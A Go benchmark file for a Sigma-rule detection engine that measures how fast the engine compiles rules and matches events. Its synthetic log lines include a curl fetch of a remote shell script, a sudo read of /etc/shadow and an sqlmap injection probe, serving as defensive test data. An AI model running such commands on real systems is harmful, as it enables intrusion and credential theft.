package detect

import (
	"fmt"
	"runtime"
	"sync/atomic"
	"testing"
	"time"

	"github.com/vigilsec/vigil/internal/event"
	"github.com/vigilsec/vigil/internal/ingest"
	"github.com/vigilsec/vigil/internal/parse"
)

// BenchmarkCompileAll compiles every SigmaHQ rule (rules, emerging threats,
// threat hunting).
func BenchmarkCompileAll(b *testing.B) {
	rules := loadAllRules(b)
	b.ReportAllocs()
	for b.Loop() {
		if _, _, err := Compile(rules, Options{}); err != nil {
			b.Fatal(err)
		}
	}
}

// benchEvents is a realistic mix: every regression-suite event (Windows)
// plus Linux syslog (sshd, sudo, cron), auditd and web access lines.
func benchEvents(b testing.TB) []*event.Event {
	root := sharedSigma(b)
	p := parse.New(parse.Options{})
	var evs []*event.Event
	for _, c := range regressionCases(b, root) {
		for _, f := range c.jsonFiles {
			evs = append(evs, parseEvents(b, p, f)...)
		}
	}
	lines := []string{
		`<38>Jan 12 10:14:03 web01 sshd[4321]: Failed password for invalid user admin from 203.0.113.7 port 50122 ssh2`,
		`<38>Jan 12 10:14:05 web01 sshd[4321]: Accepted publickey for deploy from 198.51.100.4 port 40022 ssh2: RSA SHA256:abc`,
		`<85>Jan 12 10:15:00 web01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow`,
		`<78>Jan 12 10:16:00 web01 CRON[999]: (root) CMD (/usr/local/bin/backup.sh)`,
		`<30>Jan 12 10:17:00 web01 systemd[1]: Started Session 42 of user alice.`,
		`type=EXECVE msg=audit(1700000000.123:456): argc=3 a0="curl" a1="-s" a2="http://203.0.113.9/x.sh"`,
		`203.0.113.7 - - [12/Jan/2026:10:18:00 +0000] "GET /index.php?id=1%27%20union%20select HTTP/1.1" 200 512 "-" "sqlmap/1.7"`,
		`198.51.100.4 - - [12/Jan/2026:10:18:01 +0000] "GET /static/app.js HTTP/1.1" 200 9000 "https://example.com/" "Mozilla/5.0 (X11; Linux x86_64)"`,
		`198.51.100.4 - - [12/Jan/2026:10:18:02 +0000] "POST /wp-login.php HTTP/1.1" 302 0 "-" "Mozilla/5.0"`,
	}
	n := len(evs)
	for i := 0; i < n/2; i++ {
		l := lines[i%len(lines)]
		ev := &event.Event{}
		p.Parse(&ingest.Raw{Data: []byte(l), Format: ingest.FormatAuto, Received: testReceived.Add(time.Duration(i) * time.Second)}, ev)
		evs = append(evs, ev)
	}
	return evs
}

// BenchmarkEngine runs pre-parsed events through an engine holding every
// SigmaHQ rule on one goroutine and reports events/s: "mix" is the
// realistic mix of benchEvents, "windows" its regression-suite events
// alone, "linux-web" its syslog, auditd and access-log events alone.
func BenchmarkEngine(b *testing.B) {
	rules := loadAllRules(b)
	eng, _, err := Compile(rules, Options{})
	if err != nil {
		b.Fatal(err)
	}
	all := benchEvents(b)
	var win, other []*event.Event
	for _, ev := range all {
		if ev.Logsource.Product == "windows" {
			win = append(win, ev)
		} else {
			other = append(other, ev)
		}
	}
	for _, ev := range all { // build the plans outside the timed loops
		eng.Match(ev, func(Detection) {})
	}
	for _, set := range []struct {
		name string
		evs  []*event.Event
	}{{"mix", all}, {"windows", win}, {"linux-web", other}} {
		b.Run(set.name, func(b *testing.B) {
			hits := 0
			b.ReportAllocs()
			for b.Loop() {
				for _, ev := range set.evs {
					eng.Match(ev, func(Detection) { hits++ })
				}
			}
			b.ReportMetric(float64(b.N*len(set.evs))/b.Elapsed().Seconds(), "events/s")
			b.ReportMetric(float64(len(set.evs)), "events/op")
		})
	}
}

// BenchmarkEngineParallel is BenchmarkEngine on GOMAXPROCS goroutines.
func BenchmarkEngineParallel(b *testing.B) {
	rules := loadAllRules(b)
	eng, _, err := Compile(rules, Options{})
	if err != nil {
		b.Fatal(err)
	}
	evs := benchEvents(b)
	for _, ev := range evs {
		eng.Match(ev, func(Detection) {})
	}
	var total atomic.Int64
	b.ReportAllocs()
	b.ResetTimer()
	b.RunParallel(func(pb *testing.PB) {
		n := 0
		for pb.Next() {
			for _, ev := range evs {
				eng.Match(ev, func(Detection) {})
			}
			n += len(evs)
		}
		total.Add(int64(n))
	})
	b.ReportMetric(float64(total.Load())/b.Elapsed().Seconds(), "events/s")
	b.ReportMetric(float64(runtime.GOMAXPROCS(0)), "procs")
}

// BenchmarkCorrelationChurn feeds a correlation events whose group keys
// never repeat (a flood of random source addresses) with the group cap
// reached: each event evicts a group and starts one.
func BenchmarkCorrelationChurn(b *testing.B) {
	eng, _, _ := Compile(mustRules(b, corrRules), Options{MaxGroups: 1000, KeepFields: []string{"User"}})
	evs := make([]*event.Event, 4096)
	for i := range evs {
		evs[i] = testEvent(i, "Outcome", "failure", "User", fmt.Sprintf("user%d", i), "Host", fmt.Sprintf("10.%d.%d.1", i>>8, i&255))
	}
	b.ReportAllocs()
	i := 0
	for b.Loop() {
		eng.Match(evs[i%len(evs)], func(Detection) {})
		i++
	}
}
